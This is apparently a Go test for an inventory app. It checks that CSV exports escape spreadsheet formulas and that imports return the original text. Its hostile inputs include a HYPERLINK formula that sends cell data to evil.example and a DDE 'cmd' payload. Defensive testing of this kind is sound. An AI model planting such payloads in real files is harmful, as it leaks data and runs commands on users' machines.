package store_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"lwc-inventory/store"
	"lwc-inventory/store/storetest"
)

// Nothing that people write is a formula in an exported file, and read in again it is what it was.
func TestExportsHoldNoFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"Elbow")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "'=1+1", "''=2",
		"＝1+1", "+", "-", "=", "'plain", "1-1", "Elbow = good"}
	db := storetest.Open(t)
	for _, text := range hostile {
		if _, err := db.CreateItem(t.Context(), storetest.Staff, store.ItemDraft{SKU: text, Name: text, Category: text, Unit: "ea",
			Supplier: text, Notes: text, Barcodes: []string{"=" + strings.ReplaceAll(text, " ", "")}}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := db.CreatePlace(t.Context(), storetest.Staff, store.PlaceDraft{Name: "=Truck", Kind: store.KindTruck}); err != nil {
		t.Fatal(err)
	}
	file := export(t, db, store.Export{Money: true})
	rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) {
				t.Errorf("%s is a formula to a spreadsheet: %q", rows[0][i], cell)
			}
		}
	}
	other := storetest.Open(t)
	if _, err := other.ImportItems(t.Context(), storetest.Staff, strings.NewReader(file)); err != nil {
		t.Fatal(err)
	}
	for _, text := range hostile {
		it, err := other.ItemByCode(t.Context(), text)
		if err != nil || it.Name != text || it.Category != text || it.Notes != text || it.Barcodes[0] != "="+strings.ReplaceAll(text, " ", "") {
			t.Errorf("%q came back as %+v, %v", text, it, err)
		}
	}
}
